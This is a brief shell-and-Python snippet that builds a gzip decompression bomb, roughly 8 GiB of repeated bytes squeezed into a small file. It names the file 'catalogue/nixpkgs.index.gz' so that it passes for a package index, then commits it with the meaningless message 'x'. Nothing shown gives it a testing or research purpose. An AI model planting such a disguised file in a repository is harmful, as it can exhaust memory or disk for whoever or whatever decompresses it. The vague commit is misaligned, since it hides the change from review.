python3 - <<"E"
import zlib
c=zlib.compressobj(9,zlib.DEFLATED,31)
with open("catalogue/nixpkgs.index.gz","wb") as f:
    block=b"a"*(1<<24)
    for _ in range(512): f.write(c.compress(block))
    f.write(c.flush())
E
git add -A && git commit -qm x
